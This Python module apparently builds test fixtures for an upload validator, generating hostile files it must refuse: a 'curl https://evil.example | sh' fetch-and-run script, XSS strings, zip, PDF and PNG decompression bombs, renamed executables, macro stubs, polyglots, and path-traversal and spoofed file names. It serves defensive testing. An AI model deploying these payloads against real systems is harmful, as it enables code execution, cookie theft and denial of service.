"""The hostile upload corpus of issue #13 (parts 1, 2, 5) and the good files every form must accept.

Each hostile file is refused by `dateien.validation` for a reason of its own (the `kind` names it); the
corpus reuses the static samples (tests/dateien/corpus), the generated bad files of files.py, the PDF
corpus (every active name behind every stream filter in an object stream) and EICAR in every allowed type.
"""

import functools
import io
import struct
import zipfile
import zlib

from .files import (
    EICAR,
    GOOD_FILES,
    _odf,
    _ooxml,
    corpus_bad_files,
    docx_bytes,
    eicar_files,
    image_bytes,
    pdf_bytes,
    plain_zip_bytes,
)
from .pdf_corpus import ACTIVE_OBJECTS, FILTERS, escaped, pdf_with_object_stream, pdf_with_plain_object

HTML = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"


def _pdf_bomb() -> bytes:
    """A PDF whose one Flate stream inflates to 300 MiB of zeros (compressed in steps, little memory)."""
    compressor, parts = zlib.compressobj(9), []
    block = bytes(1 << 20)
    for _ in range(300):
        parts.append(compressor.compress(block))
    parts.append(compressor.flush())
    stream = b"".join(parts)
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
        + f"3 0 obj << /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode()
        + stream
        + b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def _zip_claiming_huge_size() -> bytes:
    """A DOCX whose central directory claims a 4 GiB member: refused before anything is inflated."""
    data = bytearray(docx_bytes())
    central = data.find(b"PK\x01\x02")
    data[central + 24 : central + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def _zip_with_many_members() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for number in range(5001):
            archive.writestr(f"word/teil{number}.xml", "")
    return buffer.getvalue()


def _png_bomb() -> bytes:
    """A PNG header announcing 50 000 × 50 000 pixels (a decompression bomb for image libraries)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 50000, 50000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def _macro_ooxml(main_part: str, main_type: str, vba_path: str) -> bytes:
    return _ooxml(
        main_part,
        main_type,
        f'<Override PartName="/{vba_path}" ContentType="application/vnd.ms-office.vbaProject"/>',
        {vba_path: b"\xd0\xcf\x11\xe0macro"},
    )


@functools.cache
def hostile_files() -> dict[str, tuple[str, bytes]]:
    """File name -> (kind, content). Every one must be refused by every upload form."""
    files: dict[str, tuple[str, bytes]] = {}
    for name, (_code, content) in corpus_bad_files().items():
        if name in ("leer.pdf", "pdf_als.docx", "bild.pdf"):
            continue  # wrong, not hostile; covered by test_validation.py
        files[name] = ("Korpus (HTML/SVG/Programm/Archiv/Makro/PDF-Aktion)", content)

    # Every active PDF name, each hidden in an object stream behind a different stream filter.
    filters = list(FILTERS)
    for number, (active, obj) in enumerate(sorted(ACTIVE_OBJECTS.items())):
        filter_name = filters[number % len(filters)]
        safe_filter = filter_name.replace("+", "_")
        files[f"pdf_{active}_{safe_filter}.pdf"] = (
            "PDF aktiver Inhalt im Objektstrom",
            pdf_with_object_stream(obj, filter_name=filter_name),
        )
    files["pdf_escaped_names.pdf"] = (
        "PDF aktiver Inhalt im Objektstrom",
        pdf_with_plain_object(escaped(ACTIVE_OBJECTS["JS"])),
    )

    # HTML in every encoding a browser might sniff.
    files["html_utf8_bom.txt"] = ("HTML umbenannt/kodiert", b"\xef\xbb\xbf" + HTML.encode())
    files["html_utf16le.txt"] = ("HTML umbenannt/kodiert", b"\xff\xfe" + HTML.encode("utf-16-le"))
    files["html_utf16be.csv"] = ("HTML umbenannt/kodiert", b"\xfe\xff" + HTML.encode("utf-16-be"))
    files["html_latin1.csv"] = ("HTML umbenannt/kodiert", ("Kreis;Wert\nMülheim;" + HTML).encode("latin-1"))
    files["svg_in_xml.txt"] = (
        "HTML umbenannt/kodiert",
        b'<?xml version="1.0"?>\n<!-- Grafik -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    )
    files["javascript_link.csv"] = ("HTML umbenannt/kodiert", b"Name;Link\nBericht;javascript:alert(1)\n")

    # Renamed executables.
    files["programm.png"] = ("Programm umbenannt", b"MZ\x90\x00" + bytes(300))
    files["programm.docx"] = ("Programm umbenannt", b"\x7fELF\x02\x01\x01" + bytes(300))
    files["programm_macho.txt"] = ("Programm umbenannt", b"\xcf\xfa\xed\xfe" + bytes(300))
    files["programm_java.jpg"] = ("Programm umbenannt", b"\xca\xfe\xba\xbe" + bytes(300))
    files["programm_wasm.csv"] = ("Programm umbenannt", b"\x00asm\x01\x00\x00\x00" + bytes(100))
    files["skript.txt"] = ("Programm umbenannt", b"#!/bin/sh\ncurl https://evil.example | sh\n")

    # Macro documents.
    files["makro.xlsm.xlsx"] = (
        "Makro-Dokument",
        _macro_ooxml(
            "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin"
        ),
    )
    files["makro.pptx"] = (
        "Makro-Dokument",
        _macro_ooxml(
            "ppt/presentation.xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
            "ppt/vbaProject.bin",
        ),
    )
    files["makro_basic.odt"] = (
        "Makro-Dokument",
        _odf("application/vnd.oasis.opendocument.text", {"Basic/Standard/Module1.xml": "<script/>"}),
    )
    files["activex.docx"] = (
        "Makro-Dokument",
        _ooxml(
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
            {"word/activeX/activeX1.xml": "<ax/>"},
        ),
    )
    files["alt_office.doc"] = ("Makro-Dokument", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500))

    # Bombs.
    files["zipbombe_gross.docx"] = ("Bombe", _zip_claiming_huge_size())
    files["zipbombe_viele.docx"] = ("Bombe", _zip_with_many_members())
    files["pdfbombe.pdf"] = ("Bombe", _pdf_bomb())
    files["bildbombe.png"] = ("Bombe", _png_bomb())

    # EICAR in every allowed type: only the virus scanner refuses these.
    for name, (_key, content) in eicar_files().items():
        files[name] = ("EICAR (Virenscanner)", content)

    # Polyglots: one file, two readings.
    png, jpeg, pdf = image_bytes("PNG"), image_bytes("JPEG"), pdf_bytes()
    files["polyglott_html.png"] = ("Polyglott", png + HTML.encode())
    files["polyglott_zip.png"] = ("Polyglott", png + plain_zip_bytes())
    files["polyglott_zip.jpg"] = ("Polyglott", jpeg + plain_zip_bytes())
    files["polyglott_html_davor.pdf"] = ("Polyglott", HTML.encode() + pdf)
    files["polyglott_zip.pdf"] = ("Polyglott", pdf + plain_zip_bytes())
    files["polyglott_html_danach.pdf"] = ("Polyglott", pdf + HTML.encode())

    # Hostile names around hostile content.
    files["../../../etc/cron.d/bericht.pdf"] = ("Feindlicher Name", b"MZ\x90\x00" + bytes(200))
    files["bericht\u202efdp.exe"] = ("Feindlicher Name", b"MZ\x90\x00" + bytes(200))
    files['<img src=x onerror=alert(1)>".pdf'] = ("Feindlicher Name", HTML.encode())
    files["bericht.pdf.html"] = ("Feindlicher Name", HTML.encode())
    files["a" * 300 + ".pdf"] = ("Feindlicher Name", pdf_with_object_stream(ACTIVE_OBJECTS["Launch"]))
    files["CON.txt"] = ("Feindlicher Name", EICAR)
    return files


def good_files() -> dict[str, tuple[str, bytes]]:
    """File name -> (type key, content) of ordinary files, one per type."""
    return {name: (key, build()) for name, (key, build) in GOOD_FILES.items()}
